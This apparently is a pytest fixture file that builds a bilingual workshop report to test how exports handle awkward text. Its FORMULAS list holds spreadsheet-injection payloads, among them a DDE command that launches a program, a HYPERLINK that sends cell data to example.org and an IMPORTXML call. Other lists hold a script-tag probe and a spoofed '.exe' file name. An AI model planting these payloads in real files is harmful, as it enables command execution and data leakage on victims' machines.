"""A room's report as a real day leaves it: two days, notes of every kind, and texts that try to break a file."""

from typing import Literal

import pytest

from tests.exports.walker import sentences
from workshop.core.course import Words
from workshop.core.report import (
    Attendance,
    BlockReport,
    BoardPicture,
    Chart,
    ClusterBox,
    Count,
    Entry,
    Fact,
    Record,
    Report,
    RoomReport,
    Section,
    Series,
    Sticky,
    Table,
    Tally,
    Zone,
    label,
)

NINE = 1_767_229_200_000
"""2026-01-01 01:00 UTC, nine o'clock in Shanghai."""
MINUTE = 60_000

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "\u3000=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1"',
    "='1'!A1",
    '=HYPERLINK("http://example.org/?"&A2,"x")',
    "=cmd|'/C calc'!A0",
    '=IMPORTXML("http://example.org","//a")',
    "{=1+1}",
    "a;=1+1",
    "a\n=1+1",
    "a;b,c\"d'e\nf",
    "http://example.org/a",
    "mailto:ann@example.org",
    "007",
    "1e9",
    "TRUE",
]
HARD_TEXTS = [
    "两千字：" + "字" * 1_996,
    "Zwölf Boxkämpfer, 顧客滿意度, ありがとう, 감사합니다",
    "مرحبا بالعالم، شكرا",
    "👩‍👩‍👧‍👦 全家福 🇨🇳 👍🏽",
    "第一行\n第二行\n\n第四行",
    "# Titel *fett* _schräg_ `code` [x](http://example.org) ![y](z) <b>HTML</b> &amp; | - + 1. > ~~nein~~",
    "<script>alert(1)</script>",
    "_x000D_ is not a line end",
    "''''",
    "\\",
]
BROKEN_TEXTS = {
    "before\x0bafter\x00end": "before\nafterend",
    "half \ud83d emoji": "half  emoji",
    "not a character \ufffe\uffff": "not a character",
    "bell \x07 escape \x1b[31m": "bell  escape [31m",
    "invoice\u202exslx.exe": "invoicexslx.exe",
}
"""Texts that no file can hold, and what is left of them."""


def words(zh: str, en: str) -> Words:
    return Words(zh=zh, en=en)


def wall() -> Section:
    company, manager = words("企业眼镜", "Company lens"), words("管理者眼镜", "Manager lens")
    high, other = words("高流失", "High turnover"), words("其他", "Other")
    entries = [
        Entry("人刚带熟就走了", group=high, team="#1", author="Ann", votes=((company, 5), (manager, 0)), minute=NINE),
        Entry(
            "没有人投票的便签", group=high, team="蓝队", author="Ben", votes=((company, 0), (manager, 0)), minute=NINE
        ),
        Entry("纸上写的", group=other, team="#2", entered_by="facilitator", minute=NINE + MINUTE),
        Entry(words("预置的卡", "A card of the course"), "seed", group=other, entered_by="course"),
        *(Entry(text, group=other, team="#1", author="=Zoe", minute=NINE) for text in (*FORMULAS, *HARD_TEXTS)),
        *(Entry(text, group=other) for text in BROKEN_TEXTS),
    ]
    return Section(
        label("Notes"), words("最痛的是哪一件事？", "What hurt most?"), tuple(entries), kept_back=3, hidden=1
    )


KINDS_OF_CHARTS: tuple[Literal["bars", "radar", "distribution", "shift"], ...] = (
    "bars", "radar", "distribution", "shift",
)  # fmt: skip


def pulse() -> Section:
    rows = (
        Count(words("客户 ↔ 公司", "Customer ↔ company"), 5),
        Count("数据 ↔ 人", 3),
        Count("谁都不选", 3),
        Count("=0", 0),
    )
    tally = Tally(words("哪一座桥最弱？", "Which bridge is weakest?"), rows, voters=11, of=12)
    empty = Tally("没有选项的投票", (), voters=0, of=12)
    drawn = tuple(Chart(kind, f"空图表 {kind}", (), (), 0, 0) for kind in KINDS_OF_CHARTS)
    question = words("哪一座桥最弱？", "Which bridge is weakest?")
    return Section(words("快问", "Pulse"), question, tallies=(tally, empty), charts=drawn)


def question_box() -> Section:
    asked = Entry("我是谁写的？", "question", author="Chen", anonymous=True, votes=((label("Same question"), 4),),
                  minute=NINE + 7 * MINUTE, remark=label("Answered"))  # fmt: skip
    said = Entry("我们也一样", "comment", team="#1", anonymous=True, minute=NINE + 7 * MINUTE)
    return Section(label("Question box"), entries=(asked, said))


def sheets() -> Section:
    goal = words("目标", "Goal")
    plan = Table(
        "=步骤", (words("做什么", "What"), words("何时", "When")), (("每周复盘 | 一次", "周五"), ("=1+1", "x"))
    )
    facts = (Fact(goal, "流失率降到 8%"), Fact(goal, "=2+2"), Fact(label("Owner"), "陈𠮷", "owner"),
             Fact(label("Due"), "2026-03-31", "due"))  # fmt: skip
    record = Record(words("行动计划", "Plan"), "#2", "Ann", facts, (plan,), NINE)
    chart = Chart("radar", words("六项能力", "Six skills"), (words("倾听", "Listening"), "=反馈"),
                  (Series(words("自评", "Self"), (2.5, 4)), Series("同伴", (3, 3.5))), 5, 12)  # fmt: skip
    board = BoardPicture(
        "matrix",
        (Zone("a", words("强而易", "Easy")), Zone("b", words("空象限", "Empty quadrant"))),
        (Sticky("只在白板上的便签", "a", "k1", 3, 2, "Ben", words("附注", "Remark")), Sticky("=第二张", "a")),
        (ClusterBox("k1", "▲", words("带教", "Coaching")), ClusterBox("k2", "■", "没有便签的类")),
        "蓝队",
        (words("影响", "Impact"), words("难度", "Effort")),
    )
    records = (record, Record(facts=facts[2:]))
    return Section(words("表单", "Sheets"), records=records, tables=(plan,), charts=(chart,), boards=(board,))


@pytest.fixture(scope="session")
def report() -> RoomReport:
    def block(name: str, zh: str, en: str, day: int, *sections: Section, state: str = "done") -> BlockReport:
        began = NINE if state == "done" else None
        ended = NINE + 14 * MINUTE if state == "done" else None
        return BlockReport(name, "board", words(zh, en), day, 14.5, began, ended, state, Report(sections))  # type: ignore[arg-type]

    return RoomReport(
        title="=客服班 A/B: 第一期",
        course=words("提升客服管理者能力的有效途径", "Effective ways"),
        code="12345678",
        opened=NINE,
        utc_offset_minutes=480,
        blocks=(
            block("m0.challenges", "现状与挑战", "Challenges", 1, wall()),
            block("m0.trends", "行业现状", "Trends", 1, pulse(), question_box()),
            block("m0.same", "现状与挑战", "Challenges", 2, Section(label("Notes"), words("空", "Empty"))),
            block("m5.plan", "行动", "Action", 2, sheets()),
            block("m6.close", "收尾", "Closing", 2, Section(label("Notes")), state="ahead"),
        ),
        people=(
            Attendance("Ann", "#1", NINE - 5 * MINUTE),
            Attendance("=Zoe", "蓝队", NINE + MINUTE),
            Attendance("Ben", None, NINE, left=True),
        ),
        teams=("#1", "蓝队"),
    )


@pytest.fixture(scope="session")
def written(report: RoomReport) -> list[tuple[str, str]]:
    """Every text of the report that a reader of Chinese and of English must find, cleaned as files clean it."""
    pairs = [(text.zh, text.en) if isinstance(text, Words) else (text, text) for text in sentences(report)]
    return [(BROKEN_TEXTS.get(zh, zh).strip(), BROKEN_TEXTS.get(en, en).strip()) for zh, en in pairs]


@pytest.fixture
def broken_texts() -> dict[str, str]:
    return BROKEN_TEXTS


@pytest.fixture
def formulas() -> list[str]:
    return FORMULAS
